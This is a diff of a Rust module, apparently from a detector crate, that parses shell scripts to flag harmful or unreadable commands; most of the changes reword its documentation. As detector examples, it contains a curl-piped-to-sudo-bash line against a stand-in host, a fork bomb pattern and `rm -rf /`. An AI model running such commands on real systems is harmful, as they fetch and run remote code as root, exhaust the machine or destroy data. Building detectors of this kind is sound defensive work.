@@ -1,9 +1,11 @@
-//! Reads shell scripts: which commands they run, which of these are harmful, and what cannot be read.
+//! Reads shell scripts: determines which commands they run, which of these are harmful, and which parts cannot be read.
+//! The functions `semgrep` and `shell_code` of policies call [`find`] and [`shell_code`], and [`python`](super::python)
+//! calls [`find`] for the commands in notebooks.
 //!
 //! Scripts are parsed as bash parses them, with quotes, here-documents, substitutions, functions and compound commands,
 //! so `echo "rm -rf /"` is text and `'rm' -rf /` is a command.
 //!
-//! Followed are:
+//! This module follows:
 //!
 //! * lists, pipelines, groups, subshells, `if`, `case`, loops, functions, `[[ … ]]`, arithmetic;
 //! * `$(…)`, `` `…` ``, `<(…)` and `>(…)`, in here-documents too;
@@ -14,22 +16,26 @@
 //! * `sed` and `awk` programs that certainly run nothing;
 //! * `EDITOR`, `GIT_PAGER` and similar variables.
 //!
-//! Reported as not read are:
+//! It reports as not read:
 //!
 //! * text that is not valid, `coproc`, `${ …; }`;
 //! * a name of a command that is computed: `$x`, `r?`, `{a,b}`;
 //! * values from elsewhere, and values after `eval`, `read`, `export` and similar;
 //! * `eval`, `trap` and shells with a computed script, `… | sh`, `source <(…)`, aliases;
-//! * options of wrappers that are not known;
+//! * unknown options of wrappers;
 //! * `parallel`, `tmux`, `strace` and others, and options of `git`, `tar` or `rsync` that name programs;
 //! * code in other languages: `python -c`;
 //! * `BASH_ENV`, `LD_PRELOAD`, and `PATH` with a foreign folder;
 //! * scripts in files, and what exceeds a limit.
 //!
-//! Not noticed: a program that runs others by options or input that this list lacks, what a file contains that the text
-//! runs by its path, and values that arithmetic evaluates and that are not literal. The crate's `tests/shell_oracle.rs`
-//! compares this module with bash. Policies call it by the functions `semgrep` and `shell_code`, and
-//! [`python`](super::python) calls it for the commands in notebooks.
+//! It does not notice a program that runs others because of options or input that are not in its tables, the content of
+//! a file that the text runs by its path, or values that arithmetic evaluates and that are not literal. The crate's
+//! `tests/shell_oracle.rs` compares this module with bash.
+//!
+//! `parser`, with `compound`, `lexer`, `substitutions` and `here_document`, builds the tree of `syntax`, within `limits`.
+//! `scanner` visits the tree. For each command, `expansion` determines the words, `effective_command` the program behind
+//! `wrappers`, `input` the standard input, and `launches`, with `shells`, `remote` and `foreign_launches`, what the
+//! program runs. `environment` judges assignments, and `combinations` judges whole pipelines.
 
 mod combinations;
 mod command_kind;
@@ -97,15 +103,15 @@ pub struct UnsafeCommand {
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
 #[non_exhaustive]
 pub enum UnreadReason {
-    /// It exceeds a limit on length, depth or number.
+    /// The part exceeds a limit on length, depth or number.
     Limit,
-    /// It is no valid script, or shells disagree about it.
+    /// The part is not a valid script, or different shells read it differently.
     Syntax,
     /// The name of a command is computed.
     Name,
     /// A script is computed, or comes from a pipe.
     Script,
-    /// A program may run others: by an option that is not known, or in a way that is not followed.
+    /// A program may run others, because of an unknown option or in a way that is not followed.
     Arguments,
     /// A variable changes what later commands run.
     Environment,
@@ -133,8 +139,8 @@ impl UnreadReason {
         }
     }
 
-    /// Returns the kind and the severity with which [`find`] reports it. `None` for code in a file or in the standard
-    /// input: it is outside of the script, as the code of every program is.
+    /// Returns the kind and the severity with which [`find`] reports the unread part. `None` for code in a file or in
+    /// the standard input, which is outside of the script like the code of every program.
     fn issue(self) -> Option<(UnsafeCommandKind, IssueSeverity)> {
         match self {
             Self::Limit | Self::Syntax | Self::Script | Self::Arguments | Self::Environment => {
@@ -183,9 +189,9 @@ pub struct ShellCode {
     pub issues: Vec<UnsafeCommand>,
 }
 
-/// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`]. What cannot be read
-/// counts as unsafe: `UNREADABLE`, `UNKNOWN_COMMAND`, `OTHER_CODE`. If there are more findings than are returned, an
-/// `UNREADABLE` finding says so.
+/// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`]. A part that cannot
+/// be read counts as unsafe, with the kind `UNREADABLE`, `UNKNOWN_COMMAND` or `OTHER_CODE`. If there are more findings
+/// than are returned, an `UNREADABLE` finding says so.
 ///
 /// ```
 /// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
@@ -218,7 +224,8 @@ pub fn shell_code(text: &str) -> ShellCode {
         // `false`: no other issue says that this is not read.
         scanner.note_unread(UnreadReason::Limit, end..text.len(), false);
     }
-    // The usual spelling of the fork bomb, in which the function is named `:`. Under another name it is not found.
+    // This is the usual spelling of a fork bomb, in which the function is named `:`. A fork bomb with another name is
+    // not found.
     let squeezed: String = read.chars().filter(|c| !c.is_whitespace()).collect();
     if squeezed.contains(":(){:|:&};:") {
         // An estimate: the white space is lost, and with it the exact position.
@@ -234,7 +241,7 @@ pub fn shell_code(text: &str) -> ShellCode {
     issues.sort_by_key(order);
     issues.dedup();
     if issues.len() > MAX_FINDINGS {
-        // Keep first what says that something is not read, then the errors, then the warnings.
+        // The findings that a part is not read are kept first, then the errors, then the warnings.
         issues.sort_by_key(|issue| {
             std::cmp::Reverse((issue.kind == UnsafeCommandKind::Unreadable, issue.severity))
         });
